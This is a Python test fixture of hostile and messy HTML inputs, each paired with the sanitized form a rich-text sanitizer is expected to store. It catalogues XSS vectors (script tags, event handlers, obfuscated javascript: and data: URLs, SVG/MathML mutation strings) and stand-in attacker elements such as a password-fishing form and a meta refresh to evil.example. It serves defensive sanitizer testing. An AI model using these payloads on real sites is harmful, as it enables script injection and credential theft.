"""Hostile and messy HTML with the one form each may be stored in.

`hit()` marks code that must never run: the browser test counts its calls. Hosts end in .example or .invalid, which
nobody can own (RFC 2606): a request to one is seen, not served. The site's own host in the tests is "testserver".
"""

# ruff: noqa: E501 – one vector a line reads as a table
# fmt: off

from typing import NamedTuple


class Vector(NamedTuple):
    name: str
    html: str
    stored: str


SCRIPTS = [
    Vector("script element", "<script>hit()</script>words", "<p>words</p>"),
    Vector("script in odd case with a gap", "<ScRiPt\n>hit()</sCrIpT\t>words", "<p>words</p>"),
    Vector("script never closed", "words<script>hit()", "<p>words</p>"),
    Vector("script split by a script", "<scr<script>ipt>hit()</script>", "<p>ipt&gt;hit()</p>"),
    Vector("script split by a zero-width space", "<scr\u200bipt>hit()</scr\u200bipt>", "<p>hit()</p>"),
    Vector("script split by NUL", "<scr\x00ipt>hit()</scr\x00ipt>words", "<p>words</p>"),
    Vector("script from elsewhere", '<script src="//evil.example/x.js"></script>words', "<p>words</p>"),
    Vector("script written in entities", "&lt;script&gt;hit()&lt;/script&gt;", "<p>&lt;script&gt;hit()&lt;/script&gt;</p>"),
    Vector(
        "script in entities twice over",
        "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
        "<p>&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;</p>",
    ),
    Vector("conditional comment", "<!--[if IE]><script>hit()</script><![endif]-->words", "<p>words</p>"),
    Vector("comment closed early", "<!--><script>hit()</script>-->words", "<p>--&gt;words</p>"),
    Vector("comment closed with a bang", "<!-- --!><script>hit()</script> words", "<p>words</p>"),
    Vector("CDATA", "<![CDATA[<script>hit()</script>]]>words", "<p>hit()]]&gt;words</p>"),
    Vector("processing instruction", "<?xml version='1.0'?><?php hit() ?>words", "<p>words</p>"),
]

HANDLERS = [
    Vector("handler on a paragraph", '<p onclick="hit()">words</p>', "<p>words</p>"),
    Vector("handler on a link", '<a href="https://x.example/" onmouseover="hit()">w</a>', '<p><a href="https://x.example/">w</a></p>'),
    Vector("image that fails", '<img src="x" onerror="hit()">words', "<p>words</p>"),
    Vector("image with slashes for spaces", "<img/src=x/onerror=hit()>words", "<p>words</p>"),
    Vector("image called image", "<image src=x onerror=hit()>words", "<p>words</p>"),
    Vector("handler behind a quote", '<p title="`" x=\'"\' onclick="hit()">words</p>', "<p>words</p>"),
    Vector("quote escaping an attribute", '<a href="/a/&quot; onclick=&quot;hit()">w</a>', "<p>w</p>"),
    Vector("focus at once", "<input autofocus onfocus=hit()>words", "<p>words</p>"),
    Vector("details toggled", "<details open ontoggle=hit()><summary>s</summary>words</details>", "<p>s</p><p>words</p>"),
    Vector("marquee", "<marquee onstart=hit()>words</marquee>", "<p>words</p>"),
    Vector("body", "<body onload=hit()>words", "<p>words</p>"),
    Vector("custom element animated", "<x-y style='animation:a' onanimationstart=hit()>words</x-y>", "<p>words</p>"),
    Vector("video and audio", "<video src=x onerror=hit()></video><audio src=x onerror=hit()></audio>words", "<p>words</p>"),
    Vector("attributes of script libraries", '<p hx-get="/admin/" x-init="hit()" ng-init="hit()" v-html="1">w</p>', "<p>w</p>"),
    Vector("popover and command", '<button popovertarget=p command=show-modal commandfor=d onclick=hit()>w</button>', "<p>w</p>"),
]

ADDRESSES = [
    Vector("javascript", '<a href="javascript:hit()">w</a>', "<p>w</p>"),
    Vector("javascript in mixed case", '<a href="JaVaScRiPt:hit()">w</a>', "<p>w</p>"),
    Vector("javascript after spaces", '<a href="  \t javascript:hit()">w</a>', "<p>w</p>"),
    Vector("javascript after a control", '<a href="&#1;javascript:hit()">w</a>', "<p>w</p>"),
    Vector("javascript with a tab", '<a href="java\tscript:hit()">w</a>', "<p>w</p>"),
    Vector("javascript with a line end entity", '<a href="java&#10;script:hit()">w</a>', "<p>w</p>"),
    Vector("javascript with a named tab", '<a href="java&Tab;script&colon;hit()">w</a>', "<p>w</p>"),
    Vector("javascript in decimal entities", '<a href="&#106;&#97;&#118;ascript&#58;hit()">w</a>', "<p>w</p>"),
    Vector("javascript in bare hex entities", '<a href="&#x6A&#x61&#x76&#x61script:hit()">w</a>', "<p>w</p>"),
    Vector("javascript with a soft hyphen", '<a href="java\u00adscript:hit()">w</a>', "<p>w</p>"),
    Vector("javascript with a NUL", '<a href="java\x00script:hit()">w</a>', "<p>w</p>"),
    Vector("javascript in full-width letters", '<a href="ｊavascript:hit()">w</a>', "<p>w</p>"),
    Vector("javascript that looks like a host", '<a href="javascript://x.example/%0ahit()">w</a>', "<p>w</p>"),
    Vector("vbscript", '<a href="vbscript:hit()">w</a>', "<p>w</p>"),
    Vector("data", '<a href="data:text/html,<script>hit()</script>">w</a>', "<p>w</p>"),
    Vector("data in base64", '<a href="DATA:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">w</a>', "<p>w</p>"),
    Vector("blob, file and filesystem", '<a href="blob:x">a</a><a href="file:///etc/passwd">b</a><a href="filesystem:x">c</a>', "<p>abc</p>"),
    Vector("feed, view-source, intent", '<a href="feed:javascript:hit()">a</a><a href="view-source:x">b</a><a href="intent://x">c</a>', "<p>abc</p>"),
    Vector("host without scheme", '<a href="//evil.example/">w</a>', "<p>w</p>"),
    Vector("host behind a tab", '<a href="/\t/evil.example/">w</a>', '<p><a href="/%20/evil.example/">w</a></p>'),
    Vector("host behind backslashes", '<a href="\\\\evil.example/">w</a>', "<p>w</p>"),
    Vector("host behind slash and backslash", '<a href="/\\evil.example/">w</a>', "<p>w</p>"),
    Vector("host behind one slash", '<a href="https:/evil.example/">w</a>', "<p>w</p>"),
    Vector("host behind no slash", '<a href="https:evil.example">w</a>', "<p>w</p>"),
    Vector("host behind three slashes", '<a href="https:///evil.example">w</a>', "<p>w</p>"),
    Vector("backslash within", '<a href="https://good.example\\@evil.example/">w</a>', "<p>w</p>"),
    Vector("host behind a user name", '<a href="https://embassy.example@evil.example/">w</a>', "<p>w</p>"),
    Vector("address that is no host", '<a href="https://[evil/">a</a><a href="https://[::g]/">b</a>', "<p>ab</p>"),
    Vector("letter that becomes a slash", '<a href="https://good.example\u2100evil.example/">w</a>', "<p>w</p>"),
    Vector("relative, empty and fragment", '<a href="x/y">a</a><a href="">b</a><a href="#_ftn1">c</a><a>d</a>', "<p>abcd</p>"),
    Vector("mail with Bcc", '<a href="mailto:a@x.example?bcc=b@evil.example&body=x">w</a>', '<p><a href="mailto:a@x.example">w</a></p>'),
    Vector("mail with an escaped Bcc", '<a href="mailto:a@x.example%3Fbcc=b@evil.example">w</a>', "<p>w</p>"),
    Vector("mail to two", '<a href="mailto:a@x.example,b@evil.example">w</a>', "<p>w</p>"),
    Vector("mail to nobody", '<a href="mailto:?bcc=b@evil.example">w</a>', "<p>w</p>"),
    Vector("mail with a line end", '<a href="mailto:a@x.example%0D%0ABcc:b@evil.example">w</a>', "<p>w</p>"),
    Vector("telephone that is code", '<a href="tel:*21*0123%23">w</a>', "<p>w</p>"),
    Vector("staff address", '<a href="/admin/pages/page/1/delete/">w</a>', "<p>w</p>"),
    Vector("staff address without slash", '<a href="/admin?next=/">w</a>', "<p>w</p>"),
    Vector("staff address escaped", '<a href="/%61dm%69n/">w</a>', "<p>w</p>"),
    Vector("staff address by detour", '<a href="/x/../admin/">a</a><a href="/./admin/">b</a><a href="/x/%2e%2e/admin/">c</a>', "<p>abc</p>"),
    Vector("staff address in capitals", '<a href="/ADMIN/">w</a>', "<p>w</p>"),
    Vector("staff address with the host", '<a href="http://testserver/admin/logout/">a</a><a href="HTTPS://TestServer.:8000/admin/">b</a>', "<p>ab</p>"),
    Vector("preview address", '<a href="/preview/abc/">a</a><a href="https://testserver/preview/abc/">b</a>', "<p>ab</p>"),
    Vector("reference with a tail", '<a href="page:12 onclick=hit()">a</a><a href="page:12;x">b</a><a href="page:0">c</a><a href="page:-1">d</a>', "<p>abcd</p>"),
    Vector("reference to another kind", '<a href="user:1">a</a><a href="pagex:1">b</a><a href="PAGE:1">c</a>', "<p>abc</p>"),
    Vector("target, ping, download", '<a href="/a/" target="_blank" ping="//evil.example" download referrerpolicy=unsafe-url>w</a>', '<p><a href="/a/">w</a></p>'),
]

FOREIGN = [
    Vector("svg with a script", "<svg><script>hit()</script></svg>words", "<p>words</p>"),
    Vector("svg that loads", "<svg onload=hit()>words</svg>", ""),
    Vector("svg animating a link", '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>', ""),
    Vector("svg use from elsewhere", '<svg><use href="//evil.example/x.svg#a"></use></svg>words', "<p>words</p>"),
    Vector("svg style mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=hit()>\">", '<p>"&gt;</p>'),
    Vector("svg broken out of", "<svg><p><style><img src=x onerror=hit()></style></p></svg>words", "<p>words</p>"),
    Vector("math mutation by table", "<math><mtext><table><mglyph><style><math><img src=x onerror=hit()>", ""),
    Vector(
        "form and math mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
        "",
    ),
    Vector("math with a script address", '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>w', "<p>w</p>"),
    Vector("annotation with html", '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>w', "<p>w</p>"),
    Vector("noscript mutation", '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>', '<p>"&gt;</p>'),
    Vector("title mutation", '<title><p title="</title><img src=x onerror=hit()>">', '<p>"&gt;</p>'),
    Vector("textarea mutation", '<textarea><p title="</textarea><img src=x onerror=hit()>">', '<p>"&gt;</p>'),
    Vector("template", "<template><script>hit()</script><p>x</p></template>words", "<p>words</p>"),
    Vector("shadow root", '<div><template shadowrootmode="open"><script>hit()</script></template>words</div>', "<p>words</p>"),
    Vector("xmp, noembed, noframes", "<xmp><script>hit()</script></xmp><noembed><b>x</b></noembed><noframes>x</noframes>w", "<p>w</p>"),
    Vector("plaintext", "words<plaintext><script>hit()</script>", "<p>words</p>"),
    Vector("select mutation", "<select><style></select><img src=x onerror=hit()></style></select>words", "<p>words</p>"),
    Vector("paragraph in a button in a paragraph", "<p>a<button><p>b</p></button>c</p>", "<p>a</p><p>b</p><p>c</p>"),
    Vector("link in a table in a link", '<a href="/a/">x<table><tr><td><a href="/b/">y', '<p><a href="/a/">x</a></p><table><tbody><tr><td><a href="/b/">y</a></td></tr></tbody></table>'),
    Vector("words between table rows", "<table>x<tr>y<td>z</table>", "<p>xy</p><table><tbody><tr><td>z</td></tr></tbody></table>"),
]

ELEMENTS = [
    Vector("style element", "<style>@import url(//evil.example/x.css);p{color:red}</style>words", "<p>words</p>"),
    Vector("style attribute", '<p style="background:url(//evil.example/x);position:fixed">words</p>', "<p>words</p>"),
    Vector("frame", '<iframe src="https://evil.example/"></iframe><frameset><frame src=x></frameset>words', "<p>words</p>"),
    Vector("frame with its own document", '<iframe srcdoc="<script>parent.hit()</script>">x</iframe>words', "<p>words</p>"),
    Vector("object, embed, applet", "<object data=x>a</object><embed src=x><applet code=x>b</applet>words", "<p>words</p>"),
    Vector("form that fishes", '<form action="https://evil.example/"><label>Password</label><input name=p><button>Go</button></form>', "<p>PasswordGo</p>"),
    Vector("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">words', "<p>words</p>"),
    Vector("base", '<base href="https://evil.example/"><a href="/a/">w</a>', '<p><a href="/a/">w</a></p>'),
    Vector("link element", '<link rel="stylesheet" href="//evil.example/x.css"><link rel=prefetch href=//evil.example>words', "<p>words</p>"),
    Vector("whole page", "<!doctype html><html><head><title>t</title></head><body><p>words</p></body></html>", "<p>words</p>"),
    Vector("remote image", '<p>a<img src="https://evil.example/beacon.gif" alt="x">b</p>', "<p>ab</p>"),
    Vector("remote image in every form", '<img srcset="//evil.example/a 2x"><picture><source srcset=//evil.example/b><img src=x></picture>words', "<p>words</p>"),
    Vector("background attribute", '<table background="//evil.example/x"><tr><td background="//evil.example/y">w</table>', "<table><tbody><tr><td>w</td></tr></tbody></table>"),
    Vector("poster and track", '<video poster="//evil.example/x"><track src="//evil.example/y"></video>words', "<p>words</p>"),
    Vector("clobbering by id and name", '<a id="cookie" name="forms" href="/a/">w</a><form id=document><input name=body></form>', '<p><a href="/a/">w</a></p>'),
    Vector("clobbering on all elements", '<h2 id="location">a</h2><p id="main" name="x" class="menu" slot=s is=x part=p>b</p>', "<h2>a</h2><p>b</p>"),
    Vector("editing and hiding", '<p contenteditable hidden tabindex=1 accesskey=x draggable=true role=button aria-hidden=true>w</p>', "<p>w</p>"),
    Vector("template braces", "<p>{{ request.user }} {% load static %} ${x} &lt;%= x %&gt; [[x]]</p>", "<p>{{ request.user }} {% load static %} ${x} &lt;%= x %&gt; [[x]]</p>"),
    Vector("template braces in a link", '<a href="/a/{{ x }}/">w</a>', "<p>w</p>"),
    Vector("spans of a table beyond measure", '<table><tr><td colspan="999999" rowspan="-1">w<td colspan=" 3 ">x</table>', "<table><tbody><tr><td>w</td><td>x</td></tr></tbody></table>"),
    Vector("numbers and letters of a list", '<ol start="7" type="a" reversed><li value="9">x</ol><ol start="1e9"><li>y</ol>', '<ol start="7"><li>x</li></ol><ol><li>y</li></ol>'),
]

CHARACTERS = [
    Vector("direction override", "<p>abc\u202egnp.exe\u202c</p>", "<p>abcgnp.exe</p>"),
    Vector("direction isolate in an entity", "<p>a&#x2066;b&#8297;c</p>", "<p>abc</p>"),
    Vector("direction element and attribute", '<p dir="rtl">a<bdo dir=rtl>b</bdo></p>', "<p>ab</p>"),
    Vector("direction override in an address", '<a href="https://x.example/\u202egnp">w</a>', '<p><a href="https://x.example/gnp">w</a></p>'),
    Vector("zero-width junk", "<p>pass\u200bword\ufeff \u2060x\u00ady</p>", "<p>password xy</p>"),
    Vector("controls", "<p>a\x01b\x08c\x1bd\x7fe\x9bf</p>", "<p>abcdef</p>"),
    Vector("line separators", "<p>a\u2028b\u2029c\x0bd</p>", "<p>a b c d</p>"),
    Vector("hidden tag characters", "<p>a\U000e0041\U000e0042b</p>", "<p>ab</p>"),
    Vector("lone surrogate", "<p>a\ud800b</p>", "<p>ab</p>"),
    Vector("joiners in Latin words", "<p>ad\u200dmi\u200cn</p>", "<p>admin</p>"),
    Vector("joiners that are spelling", "<p>\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f52c</p>", "<p>\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f52c</p>"),
]

OFFICE = [
    Vector("Word paragraph", '<p class="MsoNormal" style="mso-x:y"><span lang="EN-US">Text<o:p>&nbsp;</o:p></span></p>', "<p>Text</p>"),
    Vector("Word conditional", "<!--[if gte mso 9]><xml><w:WordDocument>x</w:WordDocument></xml><![endif]--><p>Text</p>", "<p>Text</p>"),
    Vector("Word footnote", 'Text<a style="mso-footnote-id:ftn1" href="#_ftn1" name="_ftnref1"><sup>[1]</sup></a>', "<p>Text<sup>[1]</sup></p>"),
    Vector("empty paragraphs", "<p></p><p>&nbsp;</p><p><br></p><p>a</p><p>\u3000\u3000</p><h2> </h2>", "<p>a</p>"),
    Vector("headings out of range", "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>", "<h2>a</h2><h2>b</h2><h3>c</h3><h4>d</h4><h4>e</h4><h4>f</h4>"),
    Vector("old and doubled marks", "<b>a<b>b</b></b><i>c</i><strong><strong>d</strong></strong><u>e</u><font color=red>f</font>", "<p><strong>ab</strong><em>c</em><strong>d</strong>ef</p>"),
    Vector("marks around paragraphs", "<b><p>a</p><p>b</p></b>", "<p><strong>a</strong></p><p><strong>b</strong></p>"),
    Vector("crossed marks", "<b>a<i>b</b>c</i>", "<p><strong>a<em>b</em></strong><em>c</em></p>"),
    Vector("words outside paragraphs", "a<div>b</div>c<blockquote>d</blockquote>", "<p>a</p><p>b</p><p>c</p><p>d</p>"),
    Vector("spaces and breaks", "<p>  a \n  b<br> <br>c <br></p>", "<p>a b<br><br>c</p>"),
    Vector("Chinese indent", "<p>\u3000\u3000发言人\u3000表示。</p>", "<p>发言人\u3000表示。</p>"),
    Vector("list in a list without an item", "<ul><li>a</li><ul><li>b</li></ul><li>c</li></ul>", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
    Vector("items without a list", "<li>a</li><li>b</li>", "<p>a</p><p>b</p>"),
    Vector("editor's list", "<ul><li><p>a</p></li><li><p>b</p><p>c</p></li><li><p></p></li></ul>", "<ul><li>a</li><li><p>b</p><p>c</p></li></ul>"),
    Vector("table with caption and headers", '<table><caption><p>Visa <b>fees</b></p></caption><thead><tr><th scope="COL">a</th><th scope="x">b</th></tr></thead><tbody><tr><td><p>1</p></td><td></td></tr></tbody></table>', '<table><caption>Visa fees</caption><tbody><tr><th scope="col">a</th><th>b</th></tr><tr><td>1</td><td></td></tr></tbody></table>'),
    Vector("table in a table", "<table><tr><td>a<table><tr><td>b</td><td>c</td></tr></table></td></tr></table>", "<table><tbody><tr><td><p>a</p><p>b</p><p>c</p></td></tr></tbody></table>"),
    Vector("empty table", "<table><caption>x</caption><tr><td></td></tr></table>", ""),
    Vector("language of words", '<p><span lang="zh-Hans">你好</span> <span lang=\'"x\'>a</span><span>b</span></p>', '<p><span lang="zh-Hans">你好</span> ab</p>'),
    Vector("link over a space", '<p>a<a href="/a/"> </a>b<a href="/b/"></a></p>', "<p>a b</p>"),
]

HARMLESS = [
    Vector("links that stand", '<p><a href="https://www.gov.uk/x?a=1&amp;b=2#c">a</a> <a href="/press/">b</a> <a href="tel:+442072994049">c</a> <a href="page:12">d</a> <a href="article:34#q-2">e</a></p>', '<p><a href="https://www.gov.uk/x?a=1&amp;b=2#c">a</a> <a href="/press/">b</a> <a href="tel:+442072994049">c</a> <a href="page:12">d</a> <a href="article:34#q-2">e</a></p>'),
    Vector("links written loosely", '<p><a href=" www.gov.uk/x ">a</a> <a href="tel:+44 (20) 7299 4049">b</a> <a href="HTTPS://x.example">c</a></p>', '<p><a href="https://www.gov.uk/x">a</a> <a href="tel:+442072994049">b</a> <a href="https://x.example">c</a></p>'),
    Vector("marks that stand", "<p>H<sub>2</sub>O, x<sup>2</sup>, <strong>a <em>b</em></strong></p>", "<p>H<sub>2</sub>O, x<sup>2</sup>, <strong>a <em>b</em></strong></p>"),
    Vector("signs that are words", "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 \"q\" 'r' 10\u00a0%</p>", "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 \"q\" 'r' 10\u00a0%</p>"),
]

HOSTILE = SCRIPTS + HANDLERS + ADDRESSES + FOREIGN + ELEMENTS + CHARACTERS
VECTORS = HOSTILE + OFFICE + HARMLESS
